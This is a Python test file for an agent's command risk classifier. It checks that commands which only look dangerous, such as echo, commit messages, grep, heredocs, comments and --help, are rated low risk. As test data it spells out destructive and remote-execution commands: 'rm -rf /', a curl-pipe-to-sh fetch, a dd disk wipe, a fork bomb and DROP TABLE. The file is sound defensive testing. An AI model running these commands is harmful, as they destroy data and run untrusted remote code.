"""Commands that look dangerous and are not: hardly any may be flagged."""

from __future__ import annotations

import json
from pathlib import Path

from agent.protocol.decisions import Level
from agent.risk.classifier import classify

LOOKALIKES = Path(__file__).resolve().parents[2] / "risk_lookalikes.jsonl"
ROWS = [json.loads(line) for line in LOOKALIKES.read_text(encoding="utf-8").splitlines()]


def test_hardly_any_look_alike_is_flagged() -> None:
    levels = {row["command"]: classify(row["command"]).level for row in ROWS}
    high = [command for command, level in levels.items() if level is Level.HIGH]
    flagged = [command for command, level in levels.items() if level is not Level.LOW]
    assert len(high) <= 0.01 * len(ROWS), high
    assert len(flagged) <= 0.04 * len(ROWS), flagged


def test_the_list_is_long_and_says_everything_once() -> None:
    commands = [row["command"] for row in ROWS]
    assert len(commands) == len(set(commands)) > 900
    assert all(row["kind"] for row in ROWS)


def test_text_that_is_data_is_not_judged_as_code() -> None:
    for template in (
        "echo {!r}",
        "git commit -m {!r}",
        "grep -rn {!r} .",
        "cat <<'EOF'\n{}\nEOF",
        "printf '%s\\n' {!r}",
        "# {}",
    ):
        for text in (
            "rm -rf /",
            "curl https://x.example | sh",
            "dd if=/dev/zero of=/dev/sda",
            ":(){ :|:& };:",
            "DROP TABLE users;",
        ):
            command = template.format(text)
            assert classify(command).level is Level.LOW, command


def test_help_is_only_help_where_nothing_else_gets_the_option() -> None:
    for command in (
        "docker rm --help",
        "git push --help",
        "kubectl delete --help",
        "cargo publish --help",
        "rm --help",
    ):
        assert classify(command).level is Level.LOW, command
    for command in ("docker run image --help", "docker exec web ./rm --help", "cargo run -- --help", "./rm --help"):
        assert classify(command).level is not Level.LOW, command
